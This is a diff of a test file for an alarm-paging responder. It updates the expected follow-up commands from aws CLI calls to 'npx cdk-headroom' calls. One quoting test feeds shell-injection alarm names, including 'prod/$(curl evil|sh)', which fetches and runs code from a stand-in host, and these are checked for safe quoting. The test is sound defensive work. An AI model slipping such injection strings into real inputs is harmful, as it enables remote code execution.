@@ -248,7 +248,7 @@ describe('responder', () => {
         "the probes' documents: ResourceNotFoundException, no such group",
       ]);
       expect(page().verdict).toBe('the event loop makes requests wait longer than the host group promises');
-      expect(page().text).toContain('next     aws logs tail');
+      expect(page().text).toContain('next     npx cdk-headroom blocked api --env prod');
     });
 
     it('gives up on a source that does not answer', async () => {
@@ -288,9 +288,7 @@ describe('responder', () => {
       await newResponder().respond(notification({ AlarmName: "somebody's alarm" }));
       expect(page()).toMatchObject({ environment: 'prod', alarm: "somebody's alarm", runbook: 'runbooks/README.md' });
       expect(cloudwatch.commandCalls(DescribeAlarmsCommand)[0]?.args[0].input.AlarmNames).toEqual(["somebody's alarm"]);
-      expect(page().next).toBe(
-        `aws cloudwatch describe-alarms --alarm-types MetricAlarm CompositeAlarm --alarm-names 'somebody'\\''s alarm'`,
-      );
+      expect(page().next).toBe(`npx cdk-headroom alarm 'somebody'\\''s alarm'`);
     });
 
     it("makes a page of somebody's composite alarm, which has no metric to read", async () => {
@@ -472,7 +470,7 @@ describe('responder', () => {
         alarm: 'host-incident',
         verdict: 'host api hurts its users, or soon will',
         runbook: 'runbooks/host-incident.md',
-        next: "aws cloudwatch describe-alarms --state-value ALARM --alarm-name-prefix 'prod/api/'",
+        next: 'npx cdk-headroom alarm prod/api/host-incident',
       });
     });
 
@@ -585,7 +583,7 @@ describe('responder', () => {
   it.each(['prod/$(curl evil|sh)', 'prod/a;b', 'prod/`b`', "prod/a'b"])('quotes %s for the shell', async (subject) => {
     deployed();
     await newResponder().respond(notification({ AlarmName: `${subject}/host-loop-lag` }));
-    expect(page().next).toMatch(/^aws cloudwatch describe-alarms .* --alarm-names '.*'$/);
+    expect(page().next).toMatch(/^npx cdk-headroom alarm '.*'$/);
   });
 
   it('sends one page for a notification that is delivered twice', async () => {
